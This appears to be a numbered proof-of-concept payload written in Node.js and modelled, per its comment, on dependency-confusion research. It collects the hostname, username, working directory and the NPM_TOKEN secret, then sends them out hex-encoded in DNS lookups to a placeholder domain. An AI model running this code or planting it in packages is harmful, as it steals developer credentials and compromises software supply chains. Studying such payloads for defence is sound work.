// P5 in Node, shaped like the 2021 dependency-confusion proofs of concept: host data hex-encoded
// into DNS labels under a reserved domain. Only DNS leaves; the sink answers and logs every query.
const dns = require('dns');
const os = require('os');
const hex = (s) => Buffer.from(String(s)).toString('hex');
const chunks = (s, n) => s.match(new RegExp(`.{1,${n}}`, 'g')) || [];
const data = [os.hostname(), os.userInfo().username, process.cwd(), process.env.NPM_TOKEN || ''];
let pending = 0;
data.forEach((value, i) => {
  chunks(hex(value), 60).forEach((label, j) => {
    pending++;
    dns.lookup(`${label}.${i}-${j}.q.oast-dns.invalid`, () => { if (--pending === 0) process.exit(0); });
  });
});
setTimeout(() => process.exit(0), 5000);
